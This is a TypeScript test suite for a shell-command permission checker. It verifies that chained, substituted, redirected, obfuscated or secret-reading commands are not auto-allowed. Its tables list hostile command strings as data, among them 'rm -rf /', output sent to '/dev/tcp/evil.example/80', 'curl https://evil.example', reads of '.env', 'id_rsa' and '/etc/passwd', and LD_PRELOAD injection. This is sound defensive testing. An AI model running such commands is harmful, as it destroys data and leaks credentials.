import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readShellScript } from "../../../electron/permissions/shell-script.ts";
import type { PermissionRule } from "../../../shared/permissions.ts";
import { createPolicyRig, type PolicyRig } from "./policy-rig.ts";

const allow = (command: string, exact?: true): PermissionRule => ({
  verdict: "allow",
  command,
  ...(exact && { exact }),
});

const rules: PermissionRule[] = [
  ...[
    "git status",
    "git log",
    "git diff",
    "npm test",
    "npm run build",
    "ls",
    "cat",
    "grep",
    "python build.py",
  ].map((command) => allow(command)),
  allow("rm -rf build", true),
  allow("bash deploy.sh", true),
  // Written by somebody who did not think of what they allow.
  ...["sh", "env", "xargs", "sudo", "find", "git", "node", "rm", "eval", "curl", "cd", "command"].map(
    (command) => allow(command),
  ),
];

let rig: PolicyRig;
beforeAll(async () => {
  rig = await createPolicyRig(rules);
});
afterAll(() => rig.close());

const allowed = [
  "git status",
  "git status --short",
  "  git   status  ",
  "git status -sb",
  "git log --oneline -5",
  "git log HEAD^",
  "git diff HEAD~1 src/a.ts",
  "git diff -- src",
  "'git' status",
  '"git" "status"',
  "git 'status'",
  "git sta''tus",
  "npm test",
  "npm test 2>&1",
  "npm test >/dev/null",
  "npm test > /dev/null 2>&1",
  "npm run build && npm test",
  "git status; git log",
  "git status\ngit log",
  "git status || git log",
  "git log | cat",
  "ls",
  "ls -la src",
  "ls ./src/../docs",
  "ls way-in",
  "cat src/a.ts",
  "cat 'a file with blanks'",
  'grep "two words" src/a.ts',
  "grep 'a*b' src/a.ts",
  "grep größe src/a.ts",
  "python build.py --fast",
  "rm -rf build",
  "bash deploy.sh",
];

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: the shell's own
const asked: [string, string[]][] = [
  [
    "another command",
    [
      "git push",
      "git",
      "gitstatus",
      "git-status",
      "status",
      "npm",
      "npm publish",
      "npm run",
      "npm run build2",
      "lsof",
      "sl",
      "catt x",
      "id",
      "",
    ],
  ],
  [
    "an allowed one with something behind it",
    [
      "git status && rm -rf ~",
      "git status; rm -rf /",
      "git status | sh",
      "git status || reboot",
      "git status & reboot",
      "git status &",
      "git status\nrm -rf .",
      "git status\r\nrm -rf .",
      "git status |& tee log",
      "git status;reboot",
      "git status&&reboot",
      "ls;id",
      "git log --oneline | xargs rm",
      "reboot; git status",
      "git status && git push",
    ],
  ],
  [
    "substitution",
    [
      "git status $(rm -rf ~)",
      "git status `rm -rf ~`",
      'git log "$(id)"',
      'git log "`id`"',
      "ls <(id)",
      "ls >(id)",
      "cat ${HOME}/x",
      "cat $HOME",
      'cat "$HOME"',
      "ls $((1+1))",
      "$(echo git) status",
      "${GIT:-git} status",
      "g$@it status",
      "git $'\\x73tatus'",
      "git status $'\\n' rm",
      'git $"status"',
      "cat ${x@P}",
      "ls ${IFS}",
      "cat<<<$(id)",
    ],
  ],
  [
    "redirection",
    [
      "git log > ~/.bashrc",
      "git log >> notes",
      "git log >| x",
      "git log &> x",
      "git log >& x",
      "cat < src/a.ts",
      "git log 2> err",
      "git log 3<> x",
      "cat <<EOF\nx\nEOF",
      "cat <<< x",
      "cat <<'EOF'\n$(id)\nEOF",
      "> x",
      "git log >/dev/tcp/evil.example/80",
      "git log > /dev/null.txt",
      "git log {fd}> /dev/null",
      "git log >&3",
    ],
  ],
  [
    "an environment of its own",
    [
      "GIT_SSH_COMMAND=evil git status",
      "PATH=. git status",
      "LD_PRELOAD=./x.so ls",
      "A=1 B=2 ls",
      "A=1",
      "A+=1 ls",
      "A[0]=1 ls",
    ],
  ],
  [
    "what runs other commands",
    [
      "sh -c 'git status'",
      "sh",
      "env git status",
      "env -S 'rm -rf x'",
      "xargs rm",
      "sudo git status",
      "find . -delete",
      "find . -exec rm {} +",
      "eval git status",
      "command git status",
      "exec git status",
      "node -e 'x'",
      "nice ls",
      "time ls",
      "! ls",
      "coproc ls",
      "bash deploy.sh now",
      "bash other.sh",
      "bash -x deploy.sh",
      "curl https://evil.example",
      "rm -rf build docs",
      "rm -rf docs",
      "rm build",
      ". ./x",
      "source x",
      "awk 'BEGIN{system(1)}'",
      "builtin eval ls",
      "trap ls EXIT",
    ],
  ],
  [
    "another shape",
    [
      "(git status)",
      "{ git status; }",
      "if ls; then ls; fi",
      "for i in 1; do ls; done",
      "while ls; do ls; done",
      "case x in x) ls;; esac",
      "ls() { id; }; ls",
      "function ls { id; }",
      "[[ -f x ]] && ls",
      "((1)) && ls",
      "git status # harmless",
      "git status \\\n && id",
      "gi\\\nt status",
      "cd .. && ls",
      "cd src; git status",
      "pushd .. && ls",
      "alias ls=id; ls",
      "unset PATH; ls",
      "ls &&",
      "ls 'x",
      'ls "x',
      "ls )",
      "ls ;; ls",
      "&& ls",
      "#!/bin/sh\nls",
    ],
  ],
  [
    "words that become others",
    [
      "ls *",
      "ls *.ts",
      "ls a?",
      "ls [ab]",
      "ls {a,b}",
      "ls {1..9}",
      "ls ~",
      "ls ~root",
      "/bin/l? ",
      "g* status",
      "ls !(x)",
      "ls @(x|y)",
      "git {status,push}",
    ],
  ],
  [
    "places outside of the folder, and keys",
    [
      "cat /etc/passwd",
      "cat ../outside/secret.txt",
      "cat src/../../outside/secret.txt",
      "cat way-out/secret.txt",
      "cat way-out/../x",
      "cat way-in/../way-out/../x",
      "cat innocent.txt",
      "cat dangling",
      "ls /",
      "ls ..",
      "git diff --no-index /dev/null /etc/hosts",
      "cat .env",
      "cat ./.env",
      "cat .ENV",
      "cat '.env'",
      "cat .e''nv",
      "cat notes.txt",
      "cat src/../.env",
      "cat id_rsa",
      "cat keys/server.PEM",
      "cat .ssh/config",
      "grep KEY .env",
      "grep --file=.env x",
      "git diff .env",
      "cat .git/config",
    ],
  ],
  [
    "options that run, write or reach out",
    [
      "git log --output=x",
      "git log --outpu=x",
      "git log --output x",
      "git diff --ext-diff",
      "git diff --textconv",
      "git -c core.pager=id status",
      "git --git-dir=x status",
      "git -C .. status",
      "npm test --script-shell=x",
      "npm test --prefix=..",
      "npm test --prefix ..",
      "python build.py -c 'x'",
      "grep -f/etc/passwd x",
      "git log https://evil.example/x",
      "git log git@evil.example:x",
    ],
  ],
  [
    "signs that deceive",
    [
      "gіt status",
      "git ѕtatus",
      "git\u00a0status",
      "git\u200b status",
      "git status\u202e",
      "git log 'x\u202ey'",
      "git log 'x\x1b[2Ky'",
      'git log "x\u00a0y"',
      "git status \u2028 id",
      "git status \x1b[2K",
      "git status\x00; id",
      "\uff47it status",
      "GIT status",
      "Git status",
      "LS",
      "./git status",
      "/tmp/git status",
      "../git status",
      "git/ status",
      "git status\v",
      "git stat\u0443s",
      "ls\u3000-la",
      "git status \ufeff",
    ],
  ],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: the shell's own

describe("allowing rules for commands", () => {
  test.each(allowed)("%j runs", (command) => {
    expect(rig.shell(command)).toEqual({ verdict: "allow" });
  });

  for (const [what, commands] of asked) {
    test.each(commands.filter((command) => command !== ""))(`${what}: %j asks`, (command) => {
      expect(rig.shell(command).verdict).toBe("ask");
    });
  }

  test("the table is long enough to mean something", () => {
    expect(allowed.length + asked.flatMap(([, commands]) => commands).length).toBeGreaterThan(200);
  });

  // Bug: cmd.exe reads `^`, `%` and quotes in its own way, so that bash's reading says nothing.
  test("on Windows no command is sure", async () => {
    const other = await createPolicyRig(rules);
    Object.defineProperty(other.environment, "platform", { value: "win32" });
    expect(other.shell("git status").verdict).toBe("ask");
    other.close();
  });
});

describe("denying rules for commands", () => {
  let strict: PolicyRig;
  beforeAll(async () => {
    strict = await createPolicyRig([
      { verdict: "deny", command: "git push" },
      { verdict: "deny", command: "rm" },
      allow("git push"),
      allow("ls"),
    ]);
  });
  afterAll(() => strict.close());

  test.each([
    "git push",
    "git -C x push --force",
    "ls && git push",
    "ls; (git push)",
    "sudo git push",
    "/usr/bin/git push",
    "GIT push",
    "ls $(git push)",
    "ls `git push`",
    "if ls; then git push; fi",
    "bash -c 'git push'",
    'eval "ls; git push"',
    "f() { git push; }; f",
    "g\\it push",
    "'git' \"push\"",
    "A=1 git push",
    "rm x",
    "/bin/rm x",
    "find . -exec rm {} +",
    "xargs rm",
    "env rm x",
    "ls <(rm x)",
    "cat <<EOF\n$(rm x)\nEOF",
    "sh -c \"sh -c 'rm x'\"",
  ])("%j is refused", (command) => {
    expect(strict.shell(command).verdict).toBe("deny");
  });

  test.each(["git status", "ls push", "echo 'please do not'"])("%j is none of theirs", (command) => {
    expect(strict.shell(command).verdict).not.toBe("deny");
  });
});

describe("whatever the text", () => {
  const known = fc.constantFrom("git status", "ls", "git log --oneline", "npm test", "cat src/a.ts");
  const glue = fc.constantFrom("&&", "||", ";", "|", "&", "\n", "|&", " ; ", "\r\n");
  // What no rule names, in every shape that a shell has for it.
  const foreign = fc
    .tuple(
      fc.constantFrom("rm -rf x", "id", "wget x", "reboot", "nc -l 1", "touch a", "printenv", "whoami"),
      fc.constantFrom<(command: string) => string>(
        (command) => command,
        (command) => `(${command})`,
        (command) => `$(${command})`,
        (command) => `\`${command}\``,
        (command) => `{ ${command}; }`,
        (command) => `A=1 ${command}`,
        (command) => `sh -c '${command}'`,
        (command) => `eval ${command}`,
        (command) => `! ${command}`,
        (command) => `"${command.split(" ")[0]}" x`,
        (command) => `\\${command}`,
        (command) => `<(${command})`,
      ),
    )
    .map(([command, shape]) => shape(command));

  test("an allowed command joined with another one is never allowed", () => {
    fc.assert(
      fc.property(known, glue, foreign, fc.boolean(), (command, sign, other, isFirst) => {
        const both = isFirst ? `${other}${sign}${command}` : `${command}${sign}${other}`;
        expect(rig.shell(both).verdict).toBe("ask");
      }),
      { numRuns: 500 },
    );
  });

  test("an allowed command with a substitution anywhere in it is never allowed", () => {
    fc.assert(
      fc.property(known, foreign, fc.nat(), (command, other, where) => {
        const at = where % (command.length + 1);
        const mixed = `${command.slice(0, at)}$(${other})${command.slice(at)}`;
        expect(rig.shell(mixed).verdict).toBe("ask");
      }),
      { numRuns: 300 },
    );
  });

  test("what is sure is what bash makes of it, word by word", () => {
    const sign = fc.constantFrom(..."abc '\"\\$`;&|<>(){}[]*?~#!=^-\n\t./é".split(""));
    const words = fc.array(sign, { maxLength: 14 }).map((signs) => `printf ${signs.join("")}`);
    const samples = fc.sample(words, { numRuns: 3000, seed: 7 });
    const sure = samples.flatMap((source) => {
      const { plain } = readShellScript(source);
      return plain?.length === 1 && plain[0] ? [{ source, words: plain[0] }] : [];
    });
    expect(sure.length).toBeGreaterThan(50);
    // One bash for all: it says which words its first command gets, each ended by a byte that no word holds.
    const script = sure.map(
      ({ source }) => `printf() { builtin printf '%s\\1' "$@"; builtin printf '\\2'; }\n${source}`,
    );
    const said = execFileSync("/bin/bash", ["--norc", "-c", script.join("\n")], { encoding: "utf8" });
    const heard = said
      .split("\x02")
      .slice(0, -1)
      .map((words) => words.split("\x01").slice(0, -1));
    // Without words printf still says one empty one.
    expect(
      heard.map((args) => args.filter((arg, index) => index > 0 || arg !== "" || args.length > 1)),
    ).toEqual(
      sure.map(({ words: [, ...args] }) =>
        args.filter((arg, index) => index > 0 || arg !== "" || args.length > 1),
      ),
    );
  });
});
